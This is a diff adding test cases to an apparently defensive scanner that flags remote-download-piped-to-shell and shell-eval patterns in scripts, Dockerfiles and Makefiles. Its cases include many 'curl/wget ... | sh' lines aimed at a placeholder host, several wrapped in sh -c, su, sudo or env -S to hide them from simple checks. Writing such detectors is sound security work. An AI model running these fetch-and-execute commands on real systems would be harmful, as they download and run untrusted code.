@@ -130,3 +130,46 @@ def test_a_download_piped_into_xargs_running_an_interpreter(repo: GitRepo, comma
 )
 def test_xargs_near_misses(repo: GitRepo, command: str) -> None:
     assert _found(repo, "s.sh", f"set -e\ncurl https://x.io/i | {command}\n") == []
+
+
+@pytest.mark.parametrize(
+    ("path", "source", "found"),
+    [
+        ("s.sh", 'set -e\nsh -c "curl -fsSL https://x.io/i | sh"\n', [(2, _PIPE)]),
+        ("s.sh", "set -e\nsu - ci -c 'curl https://x.io/i | bash'\n", [(2, _PIPE)]),
+        ("s.sh", 'set -e\nsudo bash -ec "wget -qO- https://x.io/i | sh"\n', [(2, _PIPE)]),
+        ("s.sh", "x=1\nbash -c 'eval \"$y\"'\n", [(2, "shell-eval")]),
+        ("s.sh", "set -e\nsh -c \"sh -c 'curl https://x.io/i | sh'\"\n", [(2, _PIPE)]),
+        ("s.sh", "set -e\nsh -c '\n  echo start\n  curl https://x.io/i |\n  sh\n'\n", [(4, _PIPE)]),
+        ("s.sh", 'set -e\nsh -c "curl https://x.io/i | sh -s \\"a b\\""\n', [(2, _PIPE)]),
+        ("s.sh", 'set -e\nsh -c "cd $(pwd); curl https://x.io/i | sh"\n', [(2, _PIPE)]),
+        ("s.sh", "set -e\nenv -S 'curl -o /tmp/i https://x.io/i && sh /tmp/i'\n", [(2, _PIPE)]),
+        ("Dockerfile", 'FROM alpine\nRUN su -c "curl https://x.io/i | sh" app\n', [(2, _PIPE)]),
+        ("Makefile", "all:\n\tsh -c 'curl https://x.io/i | sh'\n", [(2, _PIPE)]),
+        ("s.sh", 'set -e\nsh -c "curl https://x.io/i \\\n  -L | sh"\n', [(2, _PIPE)]),
+        ("s.sh", 'set -e\nsh -c "`echo curl` https://x.io/i | sh"\n', [(2, _PIPE)]),
+    ],
+)
+def test_a_command_line_handed_on_is_read_as_code(
+    repo: GitRepo, path: str, source: str, found: list[tuple[int, str]]
+) -> None:
+    assert _found(repo, path, source) == found
+
+
+@pytest.mark.parametrize(
+    ("path", "source"),
+    [
+        ("s.sh", "sh -c 'echo \"curl https://x.io/i | sh\"'\n"),
+        ("s.sh", 'echo -c "curl https://x.io/i | sh"\n'),
+        ("s.sh", 'python3 -c "curl https://x.io/i | sh"\n'),
+        ("s.sh", "sh -c \"$cmd\" 'curl https://x.io/i | sh'\n"),
+        ("s.sh", "grep -c 'curl https://x.io/i | sh' f\n"),
+        ("s.sh", "sh -c 'curl https://x.io/i | sh\n"),
+        ("s.sh", 'sh -c "curl https://x.io/i $(echo "|") sh\n'),
+        ("s.sh", 'sh -c "curl https://x.io/i | sh $(date\n'),
+        ("Dockerfile", "FROM alpine\nRUN sh -c 'eval \"$x\"'\n"),
+        ("s.sh", "x='a -c '\"curl https://x.io/i | sh\"\n"),
+    ],
+)
+def test_a_command_line_handed_on_read_as_code_near_misses(repo: GitRepo, path: str, source: str) -> None:
+    assert _found(repo, path, source) == []
